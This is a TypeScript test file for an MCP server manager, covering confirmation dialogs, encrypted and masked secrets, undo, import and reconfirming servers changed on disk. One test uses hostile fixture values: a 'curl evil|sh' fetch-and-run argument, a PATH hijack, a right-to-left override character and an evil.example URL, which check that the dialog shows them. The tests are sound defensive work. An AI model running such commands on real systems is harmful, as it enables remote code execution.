import { readdir, readFile, writeFile } from 'node:fs/promises';
import { expect, it } from 'vitest';
import type { EntryChange, SecretChange } from '../config/change';
import { openServerIds } from '../config/ids';
import { IN_FILE } from '../config/keepSecret';
import { openConfigStore } from '../config/openConfigStore';
import { createResolver } from '../config/resolve';
import type { ResolvedServer } from '../config/resolved';
import { openSettingsStore } from '../config/settingsStore';
import { openTrustStore } from '../config/trust';
import { Disposables } from '../lib/disposables';
import type { Question } from '../lib/question';
import { createRedactor } from '../lib/redact';
import { createVault } from '../storage/createVault';
import { tempDir } from '../testing/tempDir';
import { createTestCipher } from '../testing/testCipher';
import { keepSecretText } from '../text/keepSecret';
import { manageText } from '../text/manage';
import type { ManageText } from '../text/manage';
import { createServerManager } from './createManager';
import { createRegistry } from './createRegistry';
import { createMcpFault } from './faults';
import { DEFAULT_LIMITS } from './limits';
import type { Session } from './session';

const set = (value: string): SecretChange => ({ kind: 'set', value });
const KEEP: SecretChange = { kind: 'keep' };
const change = (given: Partial<EntryChange>): EntryChange => ({ name: 'srv', type: 'local', enabled: true, ...given });
const remote = (given: Partial<EntryChange>): EntryChange => change({ type: 'http', ...given });
const never = new AbortController().signal;
const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };

/** Every room of the app but the connection itself: `good` programs and every address connect, others exit. */
async function openCore(dir: string, { cipher = createTestCipher(), answer = 'confirm' } = {}) {
  const app = new Disposables();
  const at = (name: string): string => `${dir}/${name}`;
  const questions: Question[] = [];
  const started: ResolvedServer[] = [];
  const answers = { next: answer };
  const redactor = createRedactor();
  const vault = createVault({ path: at('secrets.json'), cipher, redactor });
  const ids = await openServerIds(at('ids.json'));
  const store = await openConfigStore({ path: at('mcp_servers.json'), ids });
  const settings = await openSettingsStore({ path: at('settings.json') });
  const trust = await openTrustStore(at('trusted.json'));
  const variables = new Map([['PATH', '/bin']]);
  const resolver = createResolver({
    vault,
    environment: { load: async () => variables, refresh: async () => variables },
    home: '/home/me',
    platform: 'linux',
    redactor,
    credentials: createRedactor(),
    isConfirmed: trust.isConfirmed,
  });
  const registry = app.own(
    createRegistry({
      store,
      resolve: resolver.resolveServer,
      openSession: async (server) => {
        started.push(server);
        const { transport } = server;
        if (transport.kind === 'stdio' && transport.command[0] !== 'good') throw createMcpFault('exited', 'it exited');
        return session();
      },
      limits: DEFAULT_LIMITS,
      redactor,
      now: Date.now,
    }),
  );
  const manager = app.own(
    createServerManager({
      store,
      settings,
      vault,
      trust,
      ids,
      registry,
      resolver,
      ask: async (question) => {
        questions.push(question);
        return question.actions.some(({ id }) => id === answers.next) ? answers.next : IN_FILE;
      },
      texts: () => ({ ...(manageText.en satisfies ManageText), keepSecret: keepSecretText.en }),
      textSources: [store, settings],
      connects: () => true,
      log: silent,
    }),
  );
  await manager.reviewDefinitions();
  registry.start();
  return {
    manager,
    store,
    settings,
    registry,
    vault,
    trust,
    questions,
    started,
    answers,
    file: () => readFile(at('mcp_servers.json'), 'utf8'),
    entry: (name = 'srv') => store.current().servers.find((server) => server.name === name)?.entry,
    [Symbol.asyncDispose]: () => app[Symbol.asyncDispose](),
  };
}

function session(): Session {
  return {
    info: { name: 's', version: '1', protocolVersion: '2025-11-25', instructions: null, hasTools: true },
    listTools: async () => ({ tools: [], rejected: [], notes: [] }),
    callTool: async () => ({ content: [], structuredContent: undefined, isError: false, notes: [] }),
    onToolsChanged: () => () => undefined,
    ended: new Promise(() => undefined),
    [Symbol.asyncDispose]: async () => undefined,
  };
}

const envOf = (server: ResolvedServer | undefined, name: string): string | undefined =>
  server?.transport.kind === 'stdio' ? server.transport.env.get(name)?.reveal() : undefined;

async function everythingIn(dir: string): Promise<string> {
  const names = await readdir(dir, { recursive: true });
  const texts = await Promise.all(names.map((name) => readFile(`${dir}/${name}`, 'utf8').catch(() => '')));
  return texts.join('\n');
}

it('case 34: adds a server after the dialog, its secret encrypted, and starts it with the value', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const outcome = await core.manager.save(
    undefined,
    change({ command: ['good', 'a b'], env: { KEY: set('sk-test-1234567890') } }),
    never,
  );
  expect(outcome).toMatchObject({ persisted: true, runtime: 'started' });
  expect(core.questions).toHaveLength(1);
  expect(await everythingIn(dir.path)).not.toContain('sk-test-1234567890');
  expect(core.entry()?.env?.KEY).toMatch(/^\$\{secret:env\/KEY\.\w+\}$/);
  expect(envOf(core.started[0], 'KEY')).toBe('sk-test-1234567890');
  expect(core.manager.mask(outcome.id!)?.env.KEY).toEqual({ has_value: true, masked: '••••••••' });
});

it('writes nothing and starts nothing when the dialog is declined', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path, { answer: 'cancel' });
  const outcome = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('secret-value') } }),
    never,
  );
  expect(outcome).toEqual({ id: null, persisted: false, runtime: 'unchanged' });
  expect(await readdir(dir.path)).toEqual([]);
  expect(core.started).toEqual([]);
});

it('shows every argument, the whole host, and the names in env in the dialog, and no secret', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path, { answer: 'cancel' });
  const env = {
    API_KEY: set('hidden-value'),
    PATH: set('/opt/evil:/bin'),
    PIP_INDEX_URL: set('https://me:hidden-value@pypi.example/simple'),
    REF: set('${TOKEN}'),
  };
  await core.manager.save(
    undefined,
    change({ command: ['sh', '-c', 'curl evil|sh', 'x\u202Ey'], env, cwd: '/w' }),
    never,
  );
  await core.manager.save(undefined, remote({ url: 'http://evil.example:81/mcp?key=hidden-value' }), never);
  const [local, far] = core.questions;
  const row = (question: Question | undefined, label: string) => question?.rows.find((it) => it.label === label)?.value;
  expect(row(local, 'Program')).toEqual(['sh']);
  expect(row(local, 'Arguments')).toEqual(['-c', 'curl evil|sh', 'x⟨U+202E⟩y']);
  expect(row(local, 'Folder')).toEqual(['/w']);
  expect(row(local, 'Variables set')).toEqual(['API_KEY', 'PATH', 'PIP_INDEX_URL', 'REF']);
  expect(row(local, 'Values that steer what runs')).toEqual([
    'PATH=/opt/evil:/bin',
    'PIP_INDEX_URL=https://••••••••:••••••••@pypi.example/simple',
  ]);
  expect(row(local, 'Looked up')).toEqual(['env/REF: env:TOKEN']);
  expect(local?.warnings).toHaveLength(3);
  expect(row(far, 'Address')).toEqual(['http://evil.example:81/mcp?key=••••••••']);
  expect(JSON.stringify(core.questions)).not.toContain('hidden-value');
});

it('asks again when what runs changes, and not for a value, a limit or a switch', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('first-value') } }),
    never,
  );
  await core.manager.save(
    id!,
    change({ env: { K: set('second-value') }, timeout_seconds: 9, description: 'd' }),
    never,
  );
  await core.manager.setEnabled(id!, false, never);
  await core.manager.setEnabled(id!, true, never);
  await core.manager.restart(id!, never);
  await core.registry.settled(never);
  expect(core.questions).toHaveLength(1);
  expect(envOf(core.started.at(-1), 'K')).toBe('second-value');
  await core.manager.save(id!, change({ command: ['good', '--more'] }), never);
  expect(core.questions).toHaveLength(2);
  expect(core.questions[1]?.rows.find(({ label }) => label === 'Arguments')).toMatchObject({
    value: ['--more'],
    before: ['none'],
  });
});

it('gives stored secrets to a new destination only after the dialog, which says so', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('the-secret-value') } }),
    never,
  );
  core.answers.next = 'cancel';
  const declined = await core.manager.save(id!, change({ command: ['good', 'elsewhere'] }), never);
  expect(declined).toEqual({ id, persisted: false, runtime: 'unchanged' });
  await core.manager.restart(id!, never);
  await core.registry.settled(never);
  expect(core.started).toHaveLength(2);
  core.answers.next = 'confirm';
  const moved = await core.manager.save(id!, change({ command: ['good', 'elsewhere'], env: { K: KEEP } }), never);
  expect(moved.runtime).toBe('started');
  expect(core.questions.at(-1)?.warnings.join()).toMatch(/Secrets that are stored/);
  expect(envOf(core.started.at(-1), 'K')).toBe('the-secret-value');
});

it('writes nothing when nothing changes', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(undefined, change({ command: ['good'] }), never);
  const before = await everythingIn(dir.path);
  expect(await core.manager.save(id!, change({ command: ['good'] }), never)).toEqual({
    id,
    persisted: true,
    runtime: 'unchanged',
  });
  expect(await everythingIn(dir.path)).toBe(before);
});

it('keeps an edit that does not start, and undoes it with its secrets', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('the-secret-value') } }),
    never,
  );
  expect(core.manager.canUndo(id!)).toBe(false);
  const edit = await core.manager.save(id!, change({ command: ['bad'], env: { K: set('another-value') } }), never);
  expect(edit).toMatchObject({ persisted: true, runtime: 'failed' });
  expect(core.manager.canUndo(id!)).toBe(true);
  const asked = core.questions.length;
  expect(await core.manager.undo(id!, never)).toMatchObject({ persisted: true, runtime: 'started' });
  expect(core.questions).toHaveLength(asked);
  expect(core.entry()?.command).toEqual(['good']);
  expect(envOf(core.started.at(-1), 'K')).toBe('the-secret-value');
  expect(core.manager.canUndo(id!)).toBe(false);
});

it('forgets what undo needs once the new definition was ready', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(undefined, change({ command: ['good'] }), never);
  await core.manager.save(id!, change({ command: ['good', 'x'] }), never);
  await expect.poll(() => core.manager.canUndo(id!)).toBe(false);
  await expect(core.manager.undo(id!, never)).rejects.toThrow(expect.objectContaining({ kind: 'nothing-to-undo' }));
});

it('renames a server with its secrets', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('the-secret-value') } }),
    never,
  );
  const renamed = await core.manager.save(id!, change({ name: 'other' }), never);
  expect(renamed.id).toBe(id);
  core.started.length = 0;
  await core.manager.restart(id!, never);
  await core.registry.settled(never);
  expect([core.entry(), envOf(core.started.at(-1), 'K')]).toEqual([undefined, 'the-secret-value']);
});

it('case 30: refuses a name that is taken or cannot work', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  await core.manager.save(undefined, change({ command: ['good'] }), never);
  const save = (name: string) => core.manager.save(undefined, change({ name, command: ['good'] }), never);
  await expect(save('srv')).rejects.toThrow(expect.objectContaining({ kind: 'name-taken' }));
  await expect(save('a__b')).rejects.toThrow(expect.objectContaining({ kind: 'invalid-name' }));
  expect(core.questions).toHaveLength(1);
});

it('removes a server with its id, its secrets, its answers and its rules', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  const { id } = await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('the-secret-value') } }),
    never,
  );
  const rule = { verdict: 'allow' as const, pattern: '*' };
  await core.settings.update({
    rules: [
      { ...rule, id: 'r1', server_id: id! },
      { ...rule, id: 'r2', server_id: 's-other' },
    ],
  });
  await core.manager.remove(id!);
  expect(core.settings.current().rules.map((it) => it.id)).toEqual(['r2']);
  expect(JSON.parse(await readFile(`${dir.path}/secrets.json`, 'utf8'))).toMatchObject({ secrets: {} });
  expect(await readFile(`${dir.path}/trusted.json`, 'utf8')).not.toContain(id);
  expect(await readFile(`${dir.path}/ids.json`, 'utf8')).not.toContain(id);
  await core.manager.save(undefined, change({ command: ['good'] }), never);
  expect(core.questions).toHaveLength(2);
});

it('changes neither file nor connection when the file is broken, and asks nothing', async () => {
  await using dir = await tempDir();
  await writeFile(dir.at('mcp_servers.json'), '{ "servers": { ');
  await using core = await openCore(dir.path);
  const save = core.manager.save(undefined, change({ command: ['good'] }), never);
  await expect(save).rejects.toThrow(
    expect.objectContaining({
      kind: 'config-broken',
      message: expect.stringMatching(/mcp_servers\.json:1:\d+: /) as unknown,
    }),
  );
  expect([core.questions, await core.file(), await readdir(dir.path)]).toEqual([
    [],
    '{ "servers": { ',
    ['mcp_servers.json'],
  ]);
});

it('says that the keyring is locked and writes nothing', async () => {
  await using dir = await tempDir();
  const cipher = createTestCipher({ state: 'locked' });
  await using core = await openCore(dir.path, { cipher: { ...cipher, unlock: () => cipher.state() } });
  const save = core.manager.save(undefined, change({ command: ['good'], env: { K: set('the-secret-value') } }), never);
  await expect(save).rejects.toThrow(expect.objectContaining({ kind: 'locked' }));
  expect(core.entry()).toBeUndefined();
});

it('asks once where secrets go without a keyring, and leaves those alone that were there', async () => {
  await using dir = await tempDir();
  await writeFile(
    dir.at('mcp_servers.json'),
    '{ "servers": { "old": { "command": ["good"], "env": { "K": "by-hand-value" } } } }',
  );
  await using core = await openCore(dir.path, { cipher: createTestCipher({ state: 'none' }) });
  const [old] = core.store.current().servers;
  await core.manager.save(old!.id, change({ name: 'old', description: 'd' }), never);
  expect(core.questions).toEqual([]);
  await core.manager.save(
    undefined,
    change({ command: ['good'], env: { K: set('a${b}c'), L: set('second-value') } }),
    never,
  );
  expect(core.questions.map(({ title }) => title)).toEqual(['Add the server “srv”?', keepSecretText.en.title]);
  expect(core.settings.current().plain_secrets).toBe('file');
  expect([core.entry('old')?.env?.K, core.entry()?.env?.L]).toEqual(['by-hand-value', 'second-value']);
});

it('takes what a fresh state dir holds unasked, and runs nothing that changed on disk later', async () => {
  await using dir = await tempDir();
  const write = (args: string) =>
    writeFile(dir.at('mcp_servers.json'), `{ "servers": { "srv": { "command": ["good"${args}] } } }`);
  await write('');
  {
    await using core = await openCore(dir.path);
    await core.registry.settled(never);
    expect([core.started.length, core.questions]).toEqual([1, []]);
  }
  await write(', "--evil"');
  await using core = await openCore(dir.path, { answer: 'cancel' });
  await core.registry.settled(never);
  const [row] = core.registry.rows();
  expect(core.started).toEqual([]);
  expect(row?.state).toMatchObject({
    kind: 'failed',
    fault: { kind: 'config', message: expect.stringMatching(/not confirmed/) as unknown },
  });
  await core.manager.restart(row!.id, never);
  expect([core.questions.length, core.started]).toEqual([1, []]);
  core.answers.next = 'confirm';
  await core.manager.restart(row!.id, never);
  await core.registry.settled(never);
  expect(core.started.map(({ transport }) => transport)).toMatchObject([{ command: ['good', '--evil'] }]);
});

it('moves values written by hand into encryption when their entry is saved', async () => {
  await using dir = await tempDir();
  const text =
    '{ "servers": { "srv": { "type": "http", "url": "https://h/mcp?k=query-secret-1", "headers": { "H": "header-secret-1" } } } }';
  await writeFile(dir.at('mcp_servers.json'), text);
  await using core = await openCore(dir.path);
  const [server] = core.store.current().servers;
  await core.manager.save(server!.id, remote({ description: 'd' }), never);
  expect(core.questions).toEqual([]);
  expect(await everythingIn(dir.path)).not.toMatch(/query-secret-1|header-secret-1/);
  await core.manager.restart(server!.id, never);
  await core.registry.settled(never);
  const transport = core.started.at(-1)?.transport;
  expect(transport?.kind === 'streamable-http' && transport.url.reveal()).toBe('https://h/mcp?k=query-secret-1');
});

it('imports what was picked after one dialog, with secrets that never came back', async () => {
  await using dir = await tempDir();
  await using core = await openCore(dir.path);
  await core.manager.save(undefined, change({ name: 'a', command: ['good'] }), never);
  const preview = core.manager.previewImport(
    JSON.stringify({
      mcpServers: {
        a: { command: 'good', env: { K: 'import-secret-1' } },
        b__c: { command: 'good', disabled: true },
        broken: {},
        skipped: { command: 'good' },
      },
    }),
  );
  expect(preview.entries.map(({ name, problem }) => [name, problem === null])).toEqual([
    ['a-2', true],
    ['b_c', true],
    ['broken', false],
    ['skipped', true],
  ]);
  expect(JSON.stringify(preview)).not.toContain('import-secret-1');
  const picks = preview.entries.slice(0, 3).map(({ key, name }) => ({ key, name }));

  core.answers.next = 'cancel';
  const refused = await core.manager.importEntries(preview.token, picks, never);
  expect(refused.map(({ outcome }) => outcome.persisted)).toEqual([false, false, false]);
  core.answers.next = 'confirm';
  const done = await core.manager.importEntries(preview.token, picks, never);
  expect(done.map(({ outcome, problem }) => [outcome.persisted, outcome.runtime, problem === null])).toEqual([
    [true, 'started', true],
    [true, 'unchanged', true],
    [false, 'unchanged', false],
  ]);
  expect(core.questions).toHaveLength(3);
  expect(core.store.current().servers.map(({ name }) => name)).toEqual(['a', 'a-2', 'b_c']);
  expect(await everythingIn(dir.path)).not.toContain('import-secret-1');
  await expect(core.manager.importEntries(preview.token, picks, never)).rejects.toThrow(
    expect.objectContaining({ kind: 'unknown-preview' }),
  );
});
